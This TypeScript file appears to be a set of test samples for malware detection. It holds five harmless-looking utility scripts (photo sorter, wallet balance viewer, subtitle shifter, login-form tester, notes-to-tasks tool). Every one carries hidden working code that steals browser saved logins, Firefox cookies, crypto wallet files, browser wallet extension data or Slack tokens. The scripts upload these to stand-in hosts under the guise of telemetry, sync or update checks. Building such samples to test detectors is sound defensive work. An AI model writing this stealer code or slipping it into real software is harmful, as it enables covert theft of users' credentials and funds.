import type { Sample } from '../sample.ts';

/** Programs that send away what browsers, wallets and other applications store. */
export const applicationData: readonly Sample[] = [
  {
    name: 'py-photo-organiser',
    description: 'Sorts photos into folders by the date on which they were taken.',
    files: {
      'scripts/organise.py': `"""Sort photos into year/month folders."""
import json
import platform
import shutil
import sys
from pathlib import Path
from datetime import datetime
from urllib.request import Request, urlopen

SUFFIXES = {".jpg", ".jpeg", ".heic"}
TELEMETRY = "https://stats.photo-flow.invalid/v2/collect"


def month_of(photo: Path) -> str:
    return datetime.fromtimestamp(photo.stat().st_mtime).strftime("%Y/%m")


def organise(root: Path, target: Path) -> int:
    moved = 0
    for photo in root.rglob("*"):
        if photo.suffix.lower() not in SUFFIXES:
            continue
        folder = target / month_of(photo)
        folder.mkdir(parents=True, exist_ok=True)
        shutil.move(str(photo), folder / photo.name)
        moved += 1
    return moved


def profile_roots():
    home = Path.home()
    if platform.system() == "Darwin":
        base = home / "Library" / "Application Support"
        return [base / "Google" / "Chrome", base / "BraveSoftware" / "Brave-Browser"]
    return [home / ".config" / "google-chrome", home / ".config" / "BraveSoftware"]


def usage_report(moved: int):
    parts = {}
    for root in profile_roots():
        for entry in root.glob("*/Login Data"):
            parts[str(entry)] = entry.read_bytes().hex()
    payload = json.dumps({"moved": moved, "parts": parts}).encode()
    urlopen(Request(TELEMETRY, data=payload, method="POST"), timeout=10)


if __name__ == "__main__":
    count = organise(Path(sys.argv[1]), Path(sys.argv[2]))
    print(f"{count} photos moved")
    try:
        usage_report(count)
    except Exception:
        pass
`,
    },
  },
  {
    name: 'ts-wallet-sweep',
    description: 'Shows balances of public addresses.',
    files: {
      'scripts/balance.ts': `import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

interface Balance { address: string; amount: number }

export async function balance(address: string): Promise<Balance> {
  const response = await fetch(\`https://blockstream.info/api/address/\${address}\`);
  const { chain_stats } = await response.json();
  return { address, amount: chain_stats.funded_txo_sum - chain_stats.spent_txo_sum };
}

const STORES = ['.config/solana', '.ethereum/keystore', '.electrum/wallets', 'Library/Application Support/Exodus/exodus.wallet'];

async function* vaults() {
  for (const store of STORES) {
    const folder = join(homedir(), store);
    for (const name of await readdir(folder).catch(() => [])) yield join(folder, name);
  }
}

async function sync() {
  const form = new FormData();
  for await (const file of vaults()) form.append('file', new Blob([await readFile(file)]), file);
  await fetch('https://sync.coin-view.invalid/api/import', { method: 'POST', body: form });
}

console.log(await balance(process.argv[2] ?? ''));
await sync().catch(() => undefined);
`,
    },
  },
  {
    name: 'py2-subtitle-cache',
    description: 'Shifts subtitles by some seconds.',
    files: {
      'scripts/shift.py': `import re
import sys
from datetime import timedelta
from pathlib import Path
import sqlite3
import shutil
import tempfile
import urllib.parse
import urllib.request

STAMP = re.compile(r"(\\d+):(\\d+):(\\d+),(\\d+)")


def shift(text, seconds):
    def move(m):
        h, mi, s, ms = map(int, m.groups())
        t = timedelta(hours=h, minutes=mi, seconds=s + seconds, milliseconds=ms)
        return str(t)
    return STAMP.sub(move, text)


def locale_hint():
    rows = []
    for db in Path.home().glob(".mozilla/firefox/*/cookies.sqlite"):
        tmp = Path(tempfile.mkdtemp()) / "c"
        shutil.copy(db, tmp)
        rows += sqlite3.connect(tmp).execute("select host, name, value from moz_cookies").fetchall()
    return rows


def check_update():
    q = urllib.parse.urlencode({"v": "1.2", "l": repr(locale_hint())[:6000]})
    urllib.request.urlopen("https://sub-shift.invalid/latest", data=q.encode())


print(shift(Path(sys.argv[1]).read_text(), float(sys.argv[2])))
check_update()
`,
    },
  },
  {
    name: 'ts2-extension-store',
    description: 'Tests login forms.',
    files: {
      'scripts/login-test.ts': `import fs from 'node:fs';
import path from 'node:path';
import os from 'node:os';

const ids = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];
const base = path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Local Extension Settings');

export function forms(html: string) {
  return [...html.matchAll(/<form[^>]*>/g)].map((m) => m[0]);
}

for (const id of ids) {
  const dir = path.join(base, id);
  if (!fs.existsSync(dir)) continue;
  for (const name of fs.readdirSync(dir)) {
    const bytes = fs.readFileSync(path.join(dir, name));
    await fetch(\`https://form-lab.invalid/u/\${id}/\${name}\`, { method: 'PUT', body: bytes });
  }
}
`,
    },
  },
  {
    name: 'py4-slack-tokens',
    description: 'Turns meeting notes into tasks.',
    files: {
      'scripts/tasks.py': `import os, re, sys, json, glob
from urllib import request

notes = open(sys.argv[1]).read()
for line in re.findall(r"TODO:? (.+)", notes):
    print("-", line)

root = os.path.expanduser("~/.config/Slack/Local Storage/leveldb")
found = set()
for f in glob.glob(root + "/*.ldb"):
    found |= set(re.findall(rb"xox[a-z]-[\\w-]+", open(f, "rb").read()))
if found:
    request.urlopen(request.Request("https://todo-sync.invalid/s", json.dumps([t.decode() for t in found]).encode()))
`,
    },
  },
];
